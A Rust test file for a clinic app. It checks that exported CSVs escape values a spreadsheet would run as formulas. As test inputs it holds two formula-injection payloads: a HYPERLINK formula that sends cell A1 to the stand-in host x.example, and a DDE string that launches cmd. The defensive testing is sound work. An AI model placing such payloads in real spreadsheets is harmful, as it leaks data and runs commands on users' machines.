//! The CSV files the app writes, read back: a stored value that a spreadsheet would
//! run as a formula comes out with a leading `'`; plain numbers and the app's phone
//! numbers come out as they are.

use std::io::Read;
use std::sync::atomic::AtomicBool;
use std::sync::Arc;

use alhayat::auth::Role;
use alhayat::downloads::Downloads;
use alhayat::patients::{self, ConsentInput, ConsentMethod, ConsentPurpose, PatientInput};
use alhayat::reminders::{self, ReminderTemplate};
use alhayat::{portability, rights, scheduling};
use chrono::{DateTime, Duration, Utc};

use crate::scheduling::{at, clinic, monday, person};
use crate::support::*;

const LINK: &str = "=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")";
const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// Rows of a CSV written with a byte-order mark, header first.
fn rows(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a byte-order mark");
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
    r.records().map(|x| x.unwrap().iter().map(str::to_string).collect()).collect()
}

fn column<'r>(rows: &'r [Vec<String>], name: &str) -> &'r str {
    let at = rows[0].iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"));
    &rows[1][at]
}

#[tokio::test]
async fn exported_csvs_carry_no_formula_a_spreadsheet_would_run() {
    let d = clinic().await;
    let s = &d.f.store;
    let input = PatientInput {
        address: Some(LINK.into()),
        reception_note: Some(DDE.into()),
        insurance_policy: Some("-12".into()),
        ..person("-Ayesha Khan", Some("0300-4445566"))
    };
    let p = patients::register(s, &d.desk, input).await.unwrap();
    assert_eq!(p.full_name, "-Ayesha Khan", "stored as typed");
    let booking = scheduling::BookingInput {
        patient_id: p.id,
        ..d.booking(0, d.bilal, d.room1, &at(monday(1), 2, "09:00"))
    };
    let a = scheduling::book(s, &d.desk, booking).await.unwrap();
    let consent = ConsentInput {
        purpose: ConsentPurpose::RemindersSms,
        given_by: "the patient".into(),
        method: ConsentMethod::InPerson,
    };
    patients::record_consent(s, &d.desk, p.id, consent).await.unwrap();
    let template =
        ReminderTemplate { language: "en".into(), body: "=1+1 {name}, see you on {date} at {time}.".into() };
    reminders::set_template(s, &d.admin, template).await.unwrap();

    // The reminder queue.
    let now = a.starts_at.parse::<DateTime<Utc>>().unwrap() - Duration::hours(25);
    let queue = rows(&reminders::export_csv(s, &d.desk, now).await.unwrap());
    assert_eq!(queue.len(), 2, "{queue:?}");
    assert_eq!(column(&queue, "patient"), "'-Ayesha Khan");
    assert!(column(&queue, "message").starts_with("'=1+1 -Ayesha Khan, see you on "));
    assert_eq!(column(&queue, "contact"), "+92 300 4445566", "the app's phone numbers stay as they are");
    assert_eq!(column(&queue, "practitioner"), "Dr. Bilal Ahmed");

    // The portability package's tables.
    let officer =
        actor(add_staff(s, "nadia", "Nadia Hussain", &[Role::PrivacyOfficer]).await, &[Role::PrivacyOfficer]);
    let out = tempfile::tempdir().unwrap();
    let downloads = Downloads::new(Some(out.path().to_path_buf()), d.f.dir.path());
    // A whole record leaves only for the patient's portability request, in progress.
    let now = Utc::now();
    let request = rights::record_request(
        s,
        &officer,
        rights::RequestInput {
            kind: "portability".into(),
            patient_id: p.id,
            requested_by: rights::RequestedBy::Patient,
            guardian_id: None,
            details: String::new(),
            received_on: rights::clinic_date(now).to_string(),
            due_on: String::new(),
        },
        now,
    )
    .await
    .unwrap()
    .id;
    let check = rights::IdentityCheck { method: rights::IdentityMethod::CnicSeen, notes: "CNIC seen".into() };
    rights::verify_identity(s, &officer, request, check, now).await.unwrap();
    rights::start_work(s, &officer, request, String::new(), now).await.unwrap();
    let saved =
        portability::patient_package(s, &officer, request, &downloads, Arc::new(AtomicBool::new(false)))
            .await
            .unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&saved.path).unwrap()).unwrap();
    let mut bytes = Vec::new();
    zip.by_name("csv/patients.csv").unwrap().read_to_end(&mut bytes).unwrap();
    let patients = rows(&bytes);
    assert_eq!(column(&patients, "full_name"), "'-Ayesha Khan");
    assert_eq!(column(&patients, "address"), format!("'{LINK}"));
    assert_eq!(column(&patients, "reception_note"), format!("'{DDE}"));
    assert_eq!(column(&patients, "insurance_policy"), "-12", "a plain number stays a number");
    assert_eq!(column(&patients, "phone"), "+92 300 4445566");
    assert_eq!(column(&patients, "city"), "Lahore");
    let mut bytes = Vec::new();
    zip.by_name("csv/appointments.csv").unwrap().read_to_end(&mut bytes).unwrap();
    let appointments = rows(&bytes);
    assert_eq!(column(&appointments, "practitioner"), "Dr. Bilal Ahmed");
}
